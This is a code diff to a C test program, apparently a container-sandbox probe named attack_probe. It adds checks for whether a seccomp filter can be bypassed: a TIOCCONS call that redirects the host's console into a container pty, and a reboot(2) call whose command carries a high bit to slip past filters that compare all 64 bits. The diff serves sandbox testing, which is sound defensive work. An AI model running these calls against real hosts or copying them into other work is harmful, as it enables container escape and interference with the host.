@@ -11,6 +11,14 @@
  *   keyring          add_key() to the session keyring (not namespaced)
  *   tiocsti          TIOCSTI on a pty of the container's own: typing into
  *                    a terminal
+ *   tioccons         TIOCCONS on a pty of the container's own: the host's
+ *                    console output (one global redirect) goes to it
+ *   reboot-high      reboot(2) with LINUX_REBOOT_CMD_CAD_OFF, one of the
+ *                    host's commands the filter refuses, and a bit set in
+ *                    the upper half of the 64-bit register: the kernel
+ *                    takes cmd as an unsigned int, so a filter comparing
+ *                    all 64 bits lets it through ("got through": anything
+ *                    but EPERM)
  *   i386 NR          system call NR through the 32-bit int $0x80 entry
  *   x32 NR           system call NR through the x32 entry
  *                    (both: "got through" means anything but EPERM)
@@ -19,6 +27,7 @@
 #include <errno.h>
 #include <stdarg.h>
 #include <fcntl.h>
+#include <linux/reboot.h>
 #include <setjmp.h>
 #include <signal.h>
 #include <stdio.h>
@@ -95,6 +104,31 @@ static int tiocsti(void)
 	return result(1, "TIOCSTI typed into a terminal");
 }
 
+static int tioccons(void)
+{
+	int master = open("/dev/ptmx", O_RDWR | O_NOCTTY), slave;
+
+	if (master < 0 || grantpt(master) || unlockpt(master))
+		return fprintf(stdout, "untried: no pty: %s\n", strerror(errno)), 2;
+	slave = open(ptsname(master), O_RDWR | O_NOCTTY);
+	if (slave < 0)
+		return fprintf(stdout, "untried: %s: %s\n", ptsname(master), strerror(errno)), 2;
+	if (ioctl(slave, TIOCCONS) < 0)
+		return result(0, "TIOCCONS: %s", strerror(errno));
+	return result(1, "TIOCCONS redirected the host's console to a pty of the container");
+}
+
+static int reboot_high(void)
+{
+	unsigned long cmd = (1UL << 32) | LINUX_REBOOT_CMD_CAD_OFF;
+
+	if (syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, cmd, NULL) == 0)
+		return result(1, "reboot(CAD_OFF | 1 << 32) succeeded");
+	if (errno == EPERM)
+		return result(0, "reboot(CAD_OFF | 1 << 32): EPERM");
+	return result(1, "reboot(CAD_OFF | 1 << 32) reached the kernel (%s)", strerror(errno));
+}
+
 static long syscall_i386(long nr)
 {
 	long ret;
@@ -140,8 +174,13 @@ int main(int argc, char **argv)
 		return keyring();
 	if (argc == 2 && !strcmp(argv[1], "tiocsti"))
 		return tiocsti();
+	if (argc == 2 && !strcmp(argv[1], "tioccons"))
+		return tioccons();
+	if (argc == 2 && !strcmp(argv[1], "reboot-high"))
+		return reboot_high();
 	if (argc == 3 && (!strcmp(argv[1], "i386") || !strcmp(argv[1], "x32")))
 		return entry(argv[1], strtol(argv[2], NULL, 10));
-	fprintf(stderr, "usage: attack_probe shocker MARKER | keyring | tiocsti | i386 NR | x32 NR\n");
+	fprintf(stderr, "usage: attack_probe shocker MARKER | keyring | tiocsti | tioccons |"
+			" reboot-high | i386 NR | x32 NR\n");
 	return 2;
 }
